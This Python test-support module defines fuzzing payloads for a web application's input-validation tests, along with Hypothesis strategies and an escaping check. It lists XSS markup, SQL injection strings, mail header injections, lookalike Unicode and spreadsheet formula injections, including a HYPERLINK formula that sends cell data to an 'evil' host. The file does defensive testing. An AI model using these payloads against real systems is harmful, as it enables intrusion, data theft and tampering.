"""The bad-input wall's payloads: explicit lists of the classic ones, and Hypothesis
strategies that mix them with arbitrary text.

Every payload that carries markup carries the tag `<wall-x>` (or the attribute `wallx=`):
escaped output shows it as `&lt;wall-x&gt;`, so a page, a mail or an export that holds
`<wall-x` or a `wallx` attribute printed the input as markup.
"""
from __future__ import annotations

import itertools
import os
import unicodedata
from html.parser import HTMLParser

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# One Hypothesis profile for the wall: few examples (the whole wall stays under a minute per
# database), derandomized so CI replays exactly the same inputs, no example database.
# WALL_EXAMPLES=500 explores further, by hand (still reproducible: same number, same inputs).
WALL = settings(max_examples=int(os.environ.get("WALL_EXAMPLES", "12")), deadline=None,
                derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow, HealthCheck.data_too_large])

MARKER = "<wall-x"  # must never appear unescaped in a page, an HTML mail or an HTML export

HTML = [
    "<wall-x>bold</wall-x>",
    "<script>wall()</script><wall-x>",
    '"><wall-x onerror=alert(1)>',
    "'><wall-x wallx=1>",
    "<img src=x wallx=alert(1)><wall-x>",
    "&lt;wall-x&gt; &amp; <wall-x>",
    "<!--<wall-x>-->",
    "<![CDATA[<wall-x>]]>",
    "{{ 7*7 }} {% raw %}<wall-x>",
    "${7*7} #{7*7} %s %n %(name)s",
]
SQL = [
    "'; DROP TABLE signature; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM letter;--",
    "1; SELECT pg_sleep(0)",
    "\\'; --",
    "%_%",
]
# Spreadsheet formulas at the start, after ";" (how French and Russian Excel split CSV),
# after a tab, "," or "|", in full-width forms.
FORMULAS = [
    "=1+1",
    "+33 1 23 45",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "Jean;=1+1",
    "Jean; =1+1",
    'Jean;"=1+1"',
    "Jean,+1",
    "Jean|@SUM(1)",
    "＝1+1",
    "Jean;＠SUM(1)",
    "'=1+1",
]
# What invisible or direction characters do to a name.
BIDI = ["a\u202eevil", "\u2066x\u2069", "abc\u202dxyz", "\u200fعربي\u200f"]
INVISIBLE = ["zero\u200bwidth", "\u200b", "\u2060join", "\ufeffbom", "soft\u00adhyphen",
             "\u3164", "\u2800", "\u115f"]
COMBINING = ["Zalgo" + "\u0301\u0302\u0303\u0304\u0305\u0306", "e\u0301", "Ё", "Е\u0308",
             "Việt Nam", "Vie\u0323\u0302t"]
# Composed and decomposed spellings of the same name.
ACCENTS = ["Émile Zoé", unicodedata.normalize("NFD", "Émile Zoé"), "Ǆemal", "ﬁlipe"]
# Letters of one script drawn like another's.
LOOKALIKES = ["Pаul", "Мiсhаеl", "ΑΡΡLΕ", "раураl"]
LINES = ["a\r\nBcc: victim@example.org", "a\nb", "a\rb", "x\u2028y", "x\u0085y", "tab\there"]
HEADER_INJECTION = ["x\r\nBcc: victim@example.org", "x\nSubject: forged",
                    "=?utf-8?q?x=0D=0ABcc:_v@example.org?="]
CONTROLS = ["\x00", "a\x00b", "\x1b[31mred", "bell\x07", "del\x7f", "c1\x85\x9f"]
NON_CHARACTERS = ["\ufffe", "\uffff", "\U0010ffff", "\ue000private"]
LINKS = ["see http://evil.example", "evil.example/login", "www.evil", "x@evil.example"]
SCRIPTS = ["Анна Политковская", "محمد", "שלום", "李小龙", "Kağan", "😀 team"]
OVERSIZED = ["x" * 201, "y" * 5000, "é" * 300]

ALL_TEXT = (HTML + SQL + FORMULAS + BIDI + INVISIBLE + COMBINING + ACCENTS + LOOKALIKES + LINES
            + HEADER_INJECTION + CONTROLS + NON_CHARACTERS + LINKS + SCRIPTS + OVERSIZED)
# One of about every kind, for the surfaces with many fields (the back office's forms).
SAMPLE = ALL_TEXT[::3]

# Names the sign form accepts although each is nasty somewhere: markup, SQL, formulas at the
# start and after ";", look-alikes, decomposed accents, scripts. They must be stored as typed
# (NFC) and printed as text everywhere.
ACCEPTED_NAMES = [
    "<wall-x>Acme</wall-x> & Co",
    '"><wall-x onerror=alert(1)>',
    "'; DROP TABLE signature; --",
    "=1+1",
    "+33 1 23 45",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "Jean;=1+1",
    "Jean;\"=1+1\"",
    "＝1+1",
    "Pаul",
    unicodedata.normalize("NFD", "Émile Zoé"),
    "Анна Политковская",
    "{{ 7*7 }}",
]

EMAILS_INVALID = [
    "", "plain", "@example.org", "a@", "a@@example.org", "a b@example.org",
    "a@example..org", "a\r\nbcc:x@example.org", "a@example.org\nBcc: v@example.org",
    "<wall-x>@example.org", '"quoted"@example.org>', "a@[127.0.0.1]", "a@localhost",
    "a" * 250 + "@example.org", "a@" + "b" * 64 + ".org", "a@-example.org",
    "a@example.org,b@example.org", "a@example.org;b@example.org",
]
# Addresses that are valid: internationalised local part and domain, plus tags.
EMAILS_VALID = ["jürgen@münchen.example", "δοκιμή@παράδειγμα.δοκιμή", "用户@例子.广告",
                "o'neil+wall@example.org", "A.B@Example.ORG"]

_unique = itertools.count(1)


def unique_email(prefix: str = "wall") -> str:
    """A new address each call: examples share one database and the mail cap per address."""
    return f"{prefix}{next(_unique)}@example.org"


# Characters Hypothesis draws from: any code point but surrogates (not valid in a request),
# with the classes that matter weighted in.
_SPECIAL = st.sampled_from(list("<>&\"';=+-@\t\r\n\x00\x1b\u202e\u2066\u200b\u200d\u0301"
                                "\u0308\ufeff\u2028\u3164аеорсхАВЕΑΡ%\\/{}$#|*_`[]~!"))
_ANY = st.characters(exclude_categories=("Cs",))
chars = st.one_of(_SPECIAL, _ANY, st.characters(min_codepoint=0x20, max_codepoint=0x7e))

nasty_text = st.one_of(
    st.sampled_from(ALL_TEXT),
    st.text(chars, max_size=40),
    st.lists(st.sampled_from(ALL_TEXT), min_size=2, max_size=3).map("".join),
    st.tuples(st.text(chars, max_size=10), st.sampled_from(ALL_TEXT)).map("".join),
)

# Text a path segment, a query value or a header may carry (headers: no CR/LF, Latin-1).
nasty_segment = st.one_of(st.sampled_from(ALL_TEXT), st.text(chars, min_size=1, max_size=30))
header_value = st.text(st.characters(min_codepoint=0x20, max_codepoint=0xFF,
                                     exclude_characters="\x7f"), max_size=60)


def stored(text: str) -> str:
    """What the forms store of a text value they accept: trimmed, NFC."""
    return unicodedata.normalize("NFC", text.strip())


class _Tags(HTMLParser):
    """Every start tag and attribute name of a page, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.names.update(name for name, _value in attrs)


def assert_escaped(page: str) -> None:
    """No payload's markup appears as markup: no `<wall-x` element, no `wallx` or `onerror`
    attribute (a quote that closed an attribute), no `<script>` but the site's own."""
    at = page.find(MARKER)
    assert at < 0, page[max(0, at - 200):at + 200]
    parser = _Tags()
    parser.feed(page)
    parser.close()
    assert not parser.names & {"wall-x", "wallx", "onerror"}, parser.names
